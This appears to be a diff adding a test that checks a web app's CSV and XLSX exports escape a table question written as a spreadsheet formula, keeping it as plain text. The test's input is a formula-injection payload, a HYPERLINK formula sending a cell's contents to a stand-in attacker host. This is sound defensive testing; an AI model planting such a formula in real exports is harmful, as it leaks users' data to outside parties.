@@ -75,3 +75,18 @@ def test_csv_and_xlsx_have_the_same_cells(login, filled, author):
     for csv_row, xlsx_row in zip(csv_rows, xlsx_rows, strict=True):
         assert csv_row[:4] == [str(value) for value in xlsx_row[:4]]
         assert csv_row[-1] == str(xlsx_row[-1])
+
+
+def test_a_question_written_as_a_formula_stays_text_in_both_exports(login, author, board):
+    formula = '=HYPERLINK("http://evil.example/?leak="&E2,"Click")'
+    table = services.define_table(
+        author, board, title="様式", columns=[{"question": formula, "kind": "text"}]
+    )
+    client = login(author)
+    csv_header = next(
+        csv.reader(io.StringIO(client.get(f"/progress/{table.pk}/export.csv").content.decode()))
+    )
+    sheet = load_workbook(io.BytesIO(client.get(f"/progress/{table.pk}/export.xlsx").content))
+    xlsx_header = next(sheet.active.iter_rows(values_only=True))
+    assert csv_header[4] == xlsx_header[4] == "'" + formula
+    assert sheet.active["E1"].data_type == "s"  # a string, not a formula
